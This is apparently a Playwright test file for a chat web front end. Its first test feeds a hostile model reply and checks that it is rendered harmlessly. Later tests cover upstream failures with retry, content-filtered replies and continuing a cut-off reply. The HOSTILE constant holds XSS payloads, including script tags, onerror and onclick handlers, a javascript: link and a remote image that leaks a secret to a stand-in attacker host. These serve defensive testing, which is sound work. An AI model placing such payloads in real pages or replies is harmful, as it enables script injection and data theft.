"""What a model says cannot act in the page: markup, script, script links and remote images in
a reply are shown harmlessly and load nothing. And when a reply ends badly the page says so
plainly: an upstream failure on the reply itself with a retry, a filtered reply too, and a cut
reply offers to continue, growing in its own bubble."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from browsing import USER, Site, login
from faulty_upstream import FaultyUpstream, cut_after, finish, garbage_after
from playwright.sync_api import Page
from test_chat_reply import REPLY, ask

from chatgate.providers.demo import compose_reply

HOSTILE = (
    '<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n'
    "[click me](javascript:window.pwned=3) and [a page](https://example.org/page)\n\n"
    "![leak](http://attacker.example/leak.png?secret=1)\n\n"
    '<a href="https://attacker.example" onclick="window.pwned=4">raw link</a>\n\n'
)


def chunk(text: str) -> bytes:
    body = {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
    return b"data: " + json.dumps(body).encode() + b"\n\n"


@pytest.fixture
def upstream() -> Iterator[FaultyUpstream]:
    server = FaultyUpstream().start()
    yield server
    server.stop()


@pytest.fixture
def site(make_site: Callable[..., Site], upstream: FaultyUpstream) -> Site:
    """chatgate in front of an upstream that says what each test scripts."""
    return make_site(
        openai_base_url=upstream.base_url, openai_api_key="sk-up", conversation_titles=False
    )


def test_a_hostile_reply_runs_nothing_and_loads_nothing_from_elsewhere(
    page: Page,
    site: Site,
    upstream: FaultyUpstream,
    console: list[str],
    foreign_requests: list[str],
) -> None:
    upstream.enqueue(garbage_after(2, chunk(HOSTILE)))
    login(page, *USER)
    ask(page, "Say something dangerous")
    reply = page.locator(f'{REPLY}[data-finish="stop"]')
    reply.wait_for()
    for _ in range(2):  # as it streamed, and as it is read back after a reload
        body = reply.locator(".md")
        assert "<script>window.pwned=2</script>" in body.inner_text()
        assert '<img src=x onerror="window.pwned=1">' in body.inner_text()
        assert body.locator("script, iframe, [onerror], [onclick]").count() == 0
        assert body.locator("img[src]").count() == 0, "the remote image is not loaded"
        assert body.locator("a[href^='javascript']").count() == 0
        assert "click me" in body.inner_text()
        assert body.locator("a[href]", has_text="click me").count() == 0
        outside = body.locator("a", has_text="a page")
        assert outside.get_attribute("rel") == "noopener noreferrer"
        assert outside.get_attribute("target") == "_blank"
        assert page.evaluate("() => window.pwned") is None
        page.reload()
        page.locator(".messages[data-ready='1']").wait_for()
        reply.wait_for()
    assert foreign_requests == []
    assert [line for line in console if "Content Security Policy" in line] == []
    assert [line for line in console if line.startswith("pageerror")] == []


def test_an_upstream_failure_shows_on_the_reply_and_retry_answers_the_same_question(
    page: Page, site: Site, upstream: FaultyUpstream
) -> None:
    upstream.enqueue(cut_after(6))
    login(page, *USER)
    ask(page, "Is anybody there?")
    failed = page.locator(f'{REPLY}[data-finish="error"]')
    failed.wait_for()
    assert failed.locator(".status-error").is_visible()
    assert page.locator("article.msg-user .user-text").inner_text() == "Is anybody there?"
    failed.locator(".act-retry").click()
    page.locator(f'{REPLY}[data-finish="stop"]').wait_for()
    assert 'You asked: "Is anybody there?"' in page.locator(REPLY).inner_text()
    assert page.locator(f"{REPLY} .sib-pos").inner_text() == "2 / 2"
    assert page.locator("article.msg-user").count() == 1


def test_a_filtered_reply_says_so(page: Page, site: Site, upstream: FaultyUpstream) -> None:
    upstream.enqueue(finish("content_filter"))
    login(page, *USER)
    ask(page, "Something sensitive")
    reply = page.locator(f'{REPLY}[data-finish="content_filter"]')
    reply.wait_for()
    assert "content filter" in reply.locator(".status-warn").inner_text()


def test_continue_grows_the_cut_reply_in_its_own_bubble_with_no_new_question(
    page: Page, site: Site, upstream: FaultyUpstream
) -> None:
    # The upstream answers as the demo model does, which goes on with the reply it is given.
    api = site.api()
    conversation = api.post("/api/v1/conversations", json={"max_tokens": 30}).json()["id"]
    login(page, *USER)
    page.goto(f"/c/{conversation}")
    page.wait_for_load_state("networkidle")  # the conversation is open before it is asked in
    ask(page, "Write a lot")
    cut = page.locator(f'{REPLY}[data-finish="length"]')
    cut.wait_for(timeout=60_000)  # two browsers' tests may run at once on a busy machine
    before = cut.locator(".md").inner_text()
    assert "Continue" in cut.locator(".act-continue").inner_text()

    shown = cut.get_attribute("data-id")
    for ending in ("length", "stop"):  # 30 words more, then the rest of the 79
        page.locator(f"{REPLY} .act-continue").click()
        done = page.locator(
            f'{REPLY}[data-finish="{ending}"]:not([data-streaming]):not([data-id="{shown}"])'
            ':not([data-id^="tmp-"])'
        )
        done.wait_for()
        after = done.locator(".md").inner_text()
        assert after.startswith(before.rstrip()) and len(after) > len(before)
        assert page.locator(REPLY).count() == 1
        assert page.locator("article.msg-user").count() == 1
        before, shown = after, done.get_attribute("data-id")

    assert before.count('You asked: "Write a lot"') == 1
    assert "to use your own upstream." in before
    stored = api.get(f"/api/v1/conversations/{conversation}").json()
    by_id = {m["id"]: m for m in stored["messages"]}
    assert [by_id[i]["role"] for i in stored["current_path"]] == ["user", "assistant"]
    assert by_id[stored["current_path"][1]]["content"] == compose_reply("Write a lot")
    assert stored["current_path"][1] == shown
    last = upstream.chat_requests()[-1].body["messages"][-1]
    assert last["role"] == "assistant" and not last["content"].endswith("upstream.")
